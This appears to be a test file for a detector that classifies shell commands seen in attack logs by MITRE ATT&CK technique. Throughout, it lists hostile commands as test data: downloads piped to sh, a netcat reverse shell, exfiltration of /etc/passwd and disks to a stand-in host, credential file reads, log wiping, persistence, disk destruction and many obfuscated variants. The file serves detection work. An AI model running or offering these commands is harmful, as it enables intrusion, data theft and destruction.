import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { boundedCommand } from '../../domain/command-text.js'
import { anEvent } from '../../testing/events.js'
import { readBehaviours, shownBy } from './behaviours.js'
import { shellStatements, startReading } from './commands/shell-statements.js'
import { SIGNALS } from './signals.js'

const inCommand = (command: string) => shownBy(anEvent({ event_type: 'command', command }))

/** Pairs that share words and differ in what they do: the first shows the behaviour by the technique, the second does not. */
const LOOK_ALIKES: ReadonlyArray<
  readonly [behaviour: string, technique: string, shows: string, looksAlike: string]
> = [
  // Scheduled jobs
  ['persistence', 'T1053.003', '(crontab -l; echo "* * * * * /tmp/x") | crontab -', 'crontab -l'],
  ['persistence', 'T1053.003', 'crontab /tmp/jobs', 'crontab -r'],
  ['persistence', 'T1053.003', 'crontab -u root /tmp/jobs', 'crontab -u root -l'],
  ['persistence', 'T1053.003', 'echo "* * * * * x" >> /etc/crontab', 'cat /etc/crontab'],
  ['persistence', 'T1053.003', 'cp x /etc/cron.daily/x', 'ls -la /etc/cron.daily/x'],
  ['persistence', 'T1053.003', 'echo x > /var/spool/cron/root', 'grep -r wget /var/spool/cron/root'],
  ['persistence', 'T1053.002', 'at -f /tmp/x now', 'at -l'],
  // SSH keys
  ['persistence', 'T1098.004', 'echo "ssh-rsa AAAA" >> ~/.ssh/authorized_keys', 'cat ~/.ssh/authorized_keys'],
  ['persistence', 'T1098.004', 'cp k /root/.ssh/authorized_keys', 'cp /root/.ssh/authorized_keys /tmp/k'],
  ['persistence', 'T1098.004', 'echo k | tee -a .ssh/authorized_keys', 'wc -l .ssh/authorized_keys'],
  ['persistence', 'T1098.004', 'sed -i "1i key" ~/.ssh/authorized_keys', 'sed -n 1p ~/.ssh/authorized_keys'],
  [
    'persistence',
    'T1098.004',
    'curl -o /root/.ssh/authorized_keys http://192.0.2.1/k',
    'stat /root/.ssh/authorized_keys',
  ],
  // Services and start-up
  ['persistence', 'T1543.002', 'systemctl enable x.service', 'systemctl status x.service'],
  ['persistence', 'T1543.002', 'systemctl --now enable x', 'systemctl list-unit-files | grep enable'],
  [
    'persistence',
    'T1543.002',
    'cat > /etc/systemd/system/x.service << E\n[Unit]\nE',
    'cat /etc/systemd/system/x.service',
  ],
  ['persistence', 'T1037.004', 'echo /tmp/x >> /etc/rc.local', 'cat /etc/rc.local'],
  ['persistence', 'T1543.002', 'update-rc.d x defaults', 'ls /etc/init.d'],
  ['persistence', 'T1546.004', 'echo /tmp/x >> ~/.bashrc', 'source ~/.bashrc'],
  ['persistence', 'T1574.006', 'echo /tmp/x.so > /etc/ld.so.preload', 'cat /etc/ld.so.preload'],
  // Accounts
  ['persistence', 'T1136.001', 'useradd -m -s /bin/bash x', 'useradd --help'],
  ['persistence', 'T1136.001', 'echo "x:x:0:0::/:/bin/sh" >> /etc/passwd', 'cut -d: -f1 /etc/passwd'],
  ['account_manipulation', 'T1098', 'echo root:x | chpasswd', 'which chpasswd'],
  ['account_manipulation', 'T1098', 'echo x | passwd --stdin root', 'passwd -S root'],
  ['account_manipulation', 'T1098', 'passwd', 'grep root /etc/passwd'],
  ['account_manipulation', 'T1098', 'usermod -aG sudo x', 'usermod --help'],
  ['account_manipulation', 'T1098', 'echo "x ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers', 'sudo -l'],
  ['account_manipulation', 'T1531', 'userdel x', 'id userdel'],
  // Traces and defences
  ['defense_evasion', 'T1070.002', 'rm -rf /var/log/auth.log', 'ls /var/log/auth.log'],
  ['defense_evasion', 'T1070.002', 'cat /dev/null > /var/log/wtmp', 'cat /var/log/wtmp'],
  ['defense_evasion', 'T1070.002', '> /var/log/lastlog', 'tail -n 5 /var/log/lastlog'],
  ['defense_evasion', 'T1070.003', 'history -c', 'history | tail -5'],
  ['defense_evasion', 'T1070.003', 'export HISTFILE=/dev/null', 'echo $HISTFILE'],
  ['defense_evasion', 'T1070.003', 'unset HISTFILE', 'env | grep HISTFILE'],
  ['defense_evasion', 'T1070.003', 'rm -f ~/.bash_history', 'ls -la ~/.bash_history'],
  ['defense_evasion', 'T1070.003', 'ln -sf /dev/null ~/.bash_history', 'ls -l /dev/null'],
  ['defense_evasion', 'T1222.002', 'chattr +i /etc/x', 'lsattr /etc/x'],
  ['defense_evasion', 'T1562.004', 'iptables -F', 'iptables -L -n'],
  ['defense_evasion', 'T1562.004', 'ufw disable', 'ufw status'],
  ['defense_evasion', 'T1562.001', 'setenforce 0', 'getenforce'],
  ['defense_evasion', 'T1562.001', 'systemctl stop firewalld', 'systemctl is-active firewalld'],
  ['defense_evasion', 'T1562.001', '/etc/init.d/iptables stop', '/etc/init.d/iptables status'],
  ['service_stop', 'T1489', '/etc/init.d/nginx stop', '/etc/init.d/nginx status'],
  ['lateral_movement', 'T1021.004', 'ssh 192.0.2.1 stop', '/etc/init.d/ssh stop'],
  ['download_command', 'T1105', 'curl -i http://192.0.2.1/a', 'curl -I http://192.0.2.1/a'],
  ['service_stop', 'T1489', 'pkill -9 xmrig', 'pgrep xmrig'],
  ['service_stop', 'T1489', 'kill -9 1234', 'kill -l'],
  // Credentials
  ['credential_access', 'T1003.008', 'cat /etc/shadow', 'ls -l /etc/shadow'],
  ['credential_access', 'T1003.008', 'cp /etc/shadow /tmp/s', 'stat /etc/shadow'],
  ['credential_access', 'T1552.004', 'cat ~/.ssh/id_rsa', 'ls ~/.ssh/id_rsa'],
  ['credential_access', 'T1552.001', 'cat /root/.aws/credentials', 'find / -name credentials'],
  [
    'credential_access',
    'T1552.001',
    'tar cf t.tar ~/.local/share/TelegramDesktop/tdata',
    'ls -la ~/.local/share/TelegramDesktop/tdata',
  ],
  ['credential_access', 'T1552.001', 'cat ~/.kube/config', 'test -f ~/.kube/config'],
  // Mining and destruction
  ['resource_hijacking', 'T1496.001', './xmrig -o stratum+tcp://192.0.2.1:3333', "ps aux | grep '[Mm]iner'"],
  ['resource_hijacking', 'T1496.001', 'nohup /tmp/minerd --url 192.0.2.1 &', 'which minerd'],
  ['resource_hijacking', 'T1496.001', 'wget http://192.0.2.1/xmrig.tar.gz', 'ls /tmp/xmrig'],
  ['destruction', 'T1485', 'rm -rf /', 'rm -rf /tmp/x'],
  ['destruction', 'T1485', 'rm -rf --no-preserve-root /', 'rm -r ./build'],
  ['destruction', 'T1485', 'mkfs.ext4 /dev/sdb', 'which mkfs.ext4'],
  ['destruction', 'T1485', 'dd if=/dev/zero of=/dev/sda', 'dd if=/dev/zero of=/tmp/test bs=1M count=1'],
  ['destruction', 'T1529', 'reboot', 'last reboot'],
  ['destruction', 'T1529', 'shutdown -h now', 'shutdown -c'],
  // Tools from elsewhere
  ['download_command', 'T1105', 'wget http://192.0.2.1/a', 'which wget'],
  ['download_command', 'T1105', 'curl -O http://192.0.2.1/a', 'curl --version'],
  ['download_command', 'T1105', 'curl http://192.0.2.1/x.sh', 'curl -s https://ipinfo.io/org'],
  ['download_command', 'T1105', 'cat < /dev/tcp/192.0.2.1/80', 'ls /dev/tty'],
  ['download_command', 'T1105', 'tftp -g -r a 192.0.2.1', 'tftp'],
  ['download_command', 'T1105', 'scp x@192.0.2.1:/a /tmp/a', 'scp /tmp/a x@192.0.2.1:/a'],
  ['download_command', 'T1105', 'busybox wget http://192.0.2.1/a', 'busybox | grep wget'],
  ['execution', 'T1222.002', 'chmod +x a', 'chmod -x a'],
  ['execution', 'T1222.002', 'chmod 0777 a', 'chmod 0644 a'],
  ['execution', 'T1222.002', 'chmod 755 /tmp/a', 'chmod 700 ~/.ssh'],
  ['execution', 'T1059.004', './a', 'ls ./a'],
  ['execution', 'T1059.004', 'sh a.sh', 'sh --version'],
  ['execution', 'T1059.004', 'curl http://192.0.2.1/x | bash', 'echo bash | cat'],
  ['execution', 'T1059.004', 'nohup /tmp/a &', 'file /tmp/a'],
  ['execution', 'T1059.006', 'python3 -c "import pty"', 'python3 --version'],
  ['execution', 'T1059.006', 'python x.py', 'which python'],
  ['execution', 'T1059', 'perl /tmp/bot.pl', 'perl -v'],
  // Payloads
  ['encoded_payload', 'T1140', 'echo aWQ= | base64 -d | sh', 'base64 /tmp/a'],
  ['encoded_payload', 'T1140', 'xxd -r -p a > b', 'xxd a'],
  ['encoded_payload', 'T1140', 'echo -ne "\\x7f\\x45\\x4c\\x46" > /tmp/a', 'echo -e "\\x6F\\x6B\\x6F\\x6B"'],
  // Other systems
  ['lateral_movement', 'T1021.004', 'ssh root@192.0.2.1', 'ssh -V'],
  ['lateral_movement', 'T1021.004', 'sshpass -p x ssh root@192.0.2.1', 'which sshpass'],
  ['lateral_movement', 'T1046', 'nmap -sS 192.0.2.0/24', 'nmap --version'],
  ['lateral_movement', 'T1046', 'masscan 192.0.2.0/24 -p22', 'ls /usr/bin/masscan'],
  ['discovery', 'T1082', 'uname -a', 'echo uname'],
  ['discovery', 'T1057', 'ps aux', 'echo ps'],
  ['execution', 'T1059.004', 'nc -e /bin/sh 192.0.2.1 99', 'nc -w 3 192.0.2.1 99'],
  // Data that leaves
  ['exfiltration', 'T1048.002', 'scp -r /var/mail x@192.0.2.1:/m', 'scp -r x@192.0.2.1:/m /var/mail'],
  ['exfiltration', 'T1048.002', 'rsync -a /etc/ x@192.0.2.1:/e', 'rsync -a /etc/ /tmp/e'],
  ['exfiltration', 'T1048.003', 'dd if=/dev/sda1 | nc 192.0.2.1 99', 'echo stats | nc 192.0.2.1 11211'],
  ['exfiltration', 'T1048.003', 'nc 192.0.2.1 99 < /etc/passwd', 'nc 192.0.2.1 99'],
  ['exfiltration', 'T1048.003', 'curl -T /etc/passwd http://192.0.2.1/', 'curl -t x http://192.0.2.1/'],
  ['exfiltration', 'T1048.003', 'curl -F f=@/etc/passwd http://192.0.2.1/', 'curl -F f=x http://192.0.2.1/'],
  ['exfiltration', 'T1048.003', 'curl -d @/etc/passwd http://192.0.2.1/', 'curl http://x@192.0.2.1/'],
  ['exfiltration', 'T1048.003', 'wget --post-file=/etc/passwd http://192.0.2.1/', 'wget http://192.0.2.1/'],
  // Text that is run, and text that is only written
  [
    'download_command',
    'T1105',
    'eval $(echo "wget http://192.0.2.1/a")',
    'echo $(echo "wget http://192.0.2.1/a")',
  ],
  [
    'download_command',
    'T1105',
    'eval "$(printf %s "wget http://192.0.2.1/a")"',
    'printf %s "wget http://192.0.2.1/a"',
  ],
  [
    'download_command',
    'T1105',
    'sh -c "$(echo wget http://192.0.2.1/a)"',
    'grep -c "$(echo wget http://192.0.2.1/a)" x',
  ],
  ['download_command', 'T1105', 'sh <<< "wget http://192.0.2.1/a"', 'cat <<< "wget http://192.0.2.1/a"'],
  ['download_command', 'T1105', 'c="wget http://192.0.2.1/a"; $c', 'c="wget http://192.0.2.1/a"; echo $c'],
  [
    'download_command',
    'T1105',
    'c="wget http://192.0.2.1/a"; eval "$c"',
    'c="wget http://192.0.2.1/a"; "$c"',
  ],
  ['download_command', 'T1105', 'w=wget; $w http://192.0.2.1/a', "w=wget; '$w' http://192.0.2.1/a"],
  [
    'download_command',
    'T1105',
    'w=wget; v=$w; $v http://192.0.2.1/a',
    'w=wget; unset w; x=$w; $x http://192.0.2.1/a',
  ],
  [
    'download_command',
    'T1105',
    'echo "wget http://192.0.2.1/a" > x; sh x',
    'echo "wget http://192.0.2.1/a" > x; cat x',
  ],
  [
    'download_command',
    'T1105',
    'cat << E | sh\nwget http://192.0.2.1/a\nE',
    'cat << E | wc\nwget http://192.0.2.1/a\nE',
  ],
  ['execution', 'T1059.004', 'echo "./bot" > x; sh x', 'echo "echo 0" > x; sh x'],
  ['execution', 'T1222.002', 'wget http://192.0.2.1/x; chmod +x x', 'echo "echo 0" > x; chmod +x x'],
  [
    'execution',
    'T1222.002',
    'echo "echo 0" >> x; chmod +x x',
    'echo "echo 0" > x; echo "exit" >> x; chmod +x x',
  ],
  [
    'execution',
    'T1222.002',
    'f="/tmp/.x"; echo "echo 0" > $f; wget -O $f http://192.0.2.1/x; chmod +x $f',
    'f="/tmp/.x"; echo "echo 0" > "$f" 2>/dev/null && chmod +x "$f" && [ "$("$f")" = 0 ] && rm -f "$f"',
  ],
  ['execution', 'T1059.004', 'echo "echo 0" > x; cp /tmp/bot x; ./x', 'echo "echo 0" > x; ls -l x; ./x'],
  ['execution', 'T1059.004', 'echo "echo 0" > x; cd /tmp; ./x', 'cd /tmp; echo "echo 0" > x; ./x'],
  ['execution', 'T1059.004', 'echo "echo 0 > /tmp/y" > x; ./x', 'echo "echo 0 > /dev/null" > x; ./x'],
  ['execution', 'T1059.004', 'curl http://192.0.2.1/a | sh', 'echo "uname -a" | sh'],
]

describe('behaviours of statements', () => {
  test('the table has sixty pairs and more, and every behaviour of commands', () => {
    expect(LOOK_ALIKES.length).toBeGreaterThanOrEqual(60)
    const tested = new Set(LOOK_ALIKES.map(([behaviour]) => behaviour))
    const byEvents = ['canary_triggered', 'exploit', 'file_planted', 'proxy_abuse', 'key_login', 'padding']
    expect(SIGNALS.map(({ name }) => name).filter((name) => !tested.has(name))).toEqual(
      expect.arrayContaining(byEvents),
    )
    expect(tested.size + byEvents.length).toBe(SIGNALS.length)
  })

  test.each(LOOK_ALIKES)('%s (%s): %s, unlike %s', (behaviour, technique, shows, looksAlike) => {
    const shown = inCommand(shows)
    expect(shown.behaviours).toContain(behaviour)
    expect(shown.techniques).toContain(technique)
    expect(inCommand(looksAlike).behaviours).not.toContain(behaviour)
  })

  test.each([
    ["sh -c 'wget http://192.0.2.1/a'", 'T1105'],
    ['echo "$(wget http://192.0.2.1/a)"', 'T1105'],
    ['x=`wget http://192.0.2.1/a`', 'T1105'],
    ['if [ -f x ]; then wget http://192.0.2.1/a; fi', 'T1105'],
    ['for i in 1 2; do wget http://192.0.2.1/a; done', 'T1105'],
    ['{ wget http://192.0.2.1/a; }', 'T1105'],
    ['sudo -u root nohup env A=b busybox wget http://192.0.2.1/a', 'T1105'],
    ['w""get http://192.0.2.1/a', 'T1105'],
    ['w\\get http://192.0.2.1/a', 'T1105'],
    ['/usr/bin/wget http://192.0.2.1/a', 'T1105'],
    ['eval "wget http://192.0.2.1/a"', 'T1105'],
    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d | sh', 'T1105'],
    ['echo "wget http://192.0.2.1/a" | sh', 'T1105'],
    ['sh << E\nwget http://192.0.2.1/a\nE', 'T1105'],
    ['find / -name x -exec rm -f /var/log/wtmp \\;', 'T1070.002'],
    ['ls | xargs -n 1 rm -rf /var/log/x', 'T1070.002'],
    ["su root -c 'history -c'", 'T1070.003'],
    ["eval `echo 'wget http://192.0.2.1/a'`", 'T1105'],
    ['eval "$(echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d)"', 'T1105'],
    ['base64 -d <<< d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | sh', 'T1105'],
    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= > b; base64 -d b | bash', 'T1105'],
    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= > b; base64 -d b > s; sh s', 'T1105'],
    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | openssl base64 -d | sh', 'T1105'],
    ['echo 7767657420687474703a2f2f3139322e302e322e312f61 | xxd -r -p | sh', 'T1105'],
    ['echo "a/1.2.0.291//:ptth tegw" | rev | sh', 'T1105'],
    ['printf "\\x77\\x67et %s" http://192.0.2.1/a | sh', 'T1105'],
    ['echo -e "\\167get http://192.0.2.1/a" | sh', 'T1105'],
    ["$'\\x77get' http://192.0.2.1/a", 'T1105'],
    ['echo wget http://192.0.2.1/a | tee x | sh', 'T1105'],
    ['bash <(echo wget http://192.0.2.1/a)', 'T1105'],
    ['sh < <(echo wget http://192.0.2.1/a)', 'T1105'],
    ['source /dev/stdin <<< "wget http://192.0.2.1/a"', 'T1105'],
    ['echo "wget http://192.0.2.1/a" > /tmp/x; . /tmp/x', 'T1105'],
    ['echo -n "wget " > x; echo "http://192.0.2.1/a" >> x; bash ./x', 'T1105'],
    ['cat > x << E\nwget http://192.0.2.1/a\nE\nsh x', 'T1105'],
    ['cat << E > x; chmod +x x; ./x\nwget http://192.0.2.1/a\nE', 'T1222.002'],
    ['cp x y; echo "wget http://192.0.2.1/a" > x; mv x y; sh y', 'T1105'],
    ['a=wg; b=et; $a$b http://192.0.2.1/a', 'T1105'],
    ['a=wg; a+=et; "$a" http://192.0.2.1/a', 'T1105'],
    ['export W=wget; sh -c "$W http://192.0.2.1/a"', 'T1105'],
    [`\${w:-wget} http://192.0.2.1/a`, 'T1105'],
    ['w$@get http://192.0.2.1/a', 'T1105'],
    [`w\${nothing}get http://192.0.2.1/a`, 'T1105'],
    [`wget\${IFS}http://192.0.2.1/a`, 'T1105'],
    ['{wget,http://192.0.2.1/a}', 'T1105'],
    ['$(echo wget) http://192.0.2.1/a', 'T1105'],
    ['`which wget` http://192.0.2.1/a', 'T1105'],
    ['read c <<< "wget http://192.0.2.1/a"; $c', 'T1105'],
    ['for c in wget; do $c http://192.0.2.1/a; done', 'T1105'],
    ['echo http://192.0.2.1/a | xargs wget', 'T1105'],
    ['echo http://192.0.2.1/a | xargs -I {} sh -c "wget {}"', 'T1105'],
    ["trap 'wget http://192.0.2.1/a' EXIT", 'T1105'],
    ['eval "$(echo \'eval "$(echo wget http://192.0.2.1/a)"\')"', 'T1105'],
    ['echo "$(echo ")"; wget http://192.0.2.1/a)"', 'T1105'],
    ['timeout 10 wget http://192.0.2.1/a', 'T1105'],
    ['x=wget; (x=true); y=$(x=true) $x http://192.0.2.1/a', 'T1105'],
    ['x=wget; [ -f y ] && x=true; $x http://192.0.2.1/a', 'T1105'],
    ['for c in true wget; do $c http://192.0.2.1/a; done', 'T1105'],
  ])('%s shows %s, however it is wrapped', (command, technique) => {
    expect(inCommand(command).techniques).toContain(technique)
  })

  test('a technique is shown only by the statement that it is', () => {
    expect(inCommand('(crontab -l; echo x) | crontab -').techniques).toEqual(['T1053.003', 'T1083'])
  })
})

describe('long commands', () => {
  const attack = 'wget http://192.0.2.1/x; chmod +x x; ./x'

  test.each([17_000, 65_000])('%i characters before an attack hide nothing of it', (length) => {
    const bare = inCommand(attack)
    expect(inCommand(boundedCommand(`echo ${'A'.repeat(length)}; ${attack}`))).toEqual(bare)
  })

  test('what exceeds the bound is counted, and is a behaviour itself', () => {
    const command = `echo ${'A'.repeat(100_000)}; ${attack}`
    const { behaviours, unread } = inCommand(boundedCommand(command))
    expect(behaviours).toEqual(['padding'])
    expect(unread).toBe(command.length - 65_536)
  })

  test('so is what is nested too deep', () => {
    const nested = `${'$('.repeat(20)}wget http://192.0.2.1/x${')'.repeat(20)}`
    expect(inCommand(`echo ${nested}`)).toMatchObject({ behaviours: ['padding'] })
  })

  test('so is what follows 4,096 statements', () => {
    const { behaviours, unread } = inCommand(`${'a;'.repeat(5_000)}${attack}`)
    expect(behaviours).toEqual(['padding'])
    expect(unread).toBe((5_000 - 4_097) * 2 + attack.length)
  })

  test('so is what variables and interpreters make of more than 262,144 characters', () => {
    const doubling = `a=${'wget http://192.0.2.1/x;'.repeat(64)};${'a="$a$a";'.repeat(40)} eval "$a"`
    const { behaviours, unread } = inCommand(doubling)
    expect(behaviours).toContain('padding')
    expect(unread).toBeGreaterThan(0)
    const again = `a="#${'b'.repeat(8_000)}";${'eval "$a";'.repeat(1_000)}`
    const reader = startReading()
    expect([...shellStatements(again, reader)].length).toBeGreaterThan(1_000)
    expect(reader.nested).toBeLessThanOrEqual(262_144)
    expect(reader.unread).toBeGreaterThan(0)
  })

  test('so are variables of which there are more than 256', () => {
    const assigned = Array.from({ length: 257 }, (_, n) => `a${n}=x`).join(';')
    expect(inCommand(`${assigned};b=wget; $b http://192.0.2.1/x`).behaviours).toEqual(['padding'])
  })

  test('a command that only says that it was cut was not', () => {
    expect(inCommand('echo … [999 characters more]').unread).toBe(0)
  })

  test('other work has its turn while they are read', async () => {
    const command = 'a;'.repeat(4_000)
    let turns = 0
    let isOver = false
    const count = () => {
      turns += 1
      if (!isOver) setImmediate(count)
    }
    setImmediate(count)
    const shown = await readBehaviours([anEvent({ event_type: 'command', command })])
    isOver = true
    expect(shown.size).toBe(1)
    expect(turns).toBeGreaterThanOrEqual(Math.floor(4_000 / 256))
  })

  test('read in turns or at once, the same is shown', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.string({ unit: 'binary', maxLength: 300 })), async (commands) => {
        const events = commands.map((command) => anEvent({ event_type: 'command', command }))
        const inTurns = await readBehaviours(events)
        for (const event of events) expect(inTurns.get(event)).toEqual(shownBy(event))
      }),
    )
  }, 60_000)
})
